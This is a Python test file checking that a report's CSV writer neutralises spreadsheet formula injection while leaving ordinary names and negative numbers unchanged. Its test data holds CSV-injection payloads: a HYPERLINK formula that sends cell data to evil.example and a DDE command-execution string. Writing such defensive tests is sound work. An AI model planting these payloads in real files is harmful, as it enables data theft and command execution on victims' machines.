"""The report's CSV: tenant-chosen names never reach a spreadsheet as formulas (OWASP
CSV injection), and numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
from datetime import datetime, timezone
from pathlib import Path
from types import SimpleNamespace

from fleetwatch.report import KINDS, Line
from fleetwatch.report_files import CSV_FIELDS, write_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\tTAB=1", "\rCR=1"]


def _report(names: list[str], cost: float = 1.5) -> SimpleNamespace:
    lines = {kind: [] for kind in KINDS}
    lines["user"] = [Line("user", n, it_kwh=1.25, cost=cost) for n in names]
    return SimpleNamespace(lines=lines, currency="EUR", tz="UTC", start_ts=1_793_491_200,
                           end_ts=1_796_083_200,
                           local=lambda ts: datetime.fromtimestamp(ts, timezone.utc))


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_names_that_a_spreadsheet_would_run_are_written_as_text(tmp_path):
    path = tmp_path / "r.csv"
    write_csv(_report(HOSTILE), path)  # type: ignore[arg-type]
    names = [row["name"] for row in _rows(path)]
    assert names == ["'" + n for n in HOSTILE]
    # No cell of the file starts with a formula character.
    with path.open(newline="", encoding="utf-8") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]


def test_ordinary_names_and_negative_numbers_are_unchanged(tmp_path):
    path = tmp_path / "r.csv"
    write_csv(_report(["alice", "team 'a'", "x=1", "job-7"], cost=-2.5), path)  # type: ignore[arg-type]
    rows = _rows(path)
    assert [r["name"] for r in rows] == ["alice", "team 'a'", "x=1", "job-7"]
    assert {r["cost"] for r in rows} == {"-2.500000"}
    assert {r["it_kwh"] for r in rows} == {"1.250000"}
    assert list(rows[0]) == list(CSV_FIELDS)
    # The cost column's currency (energy.currency) is on every row: the CSV alone says it.
    # Its place (after idle_energy_share) is kept; the cluster column came after it.
    assert CSV_FIELDS[15] == "currency" and {r["currency"] for r in rows} == {"EUR"}
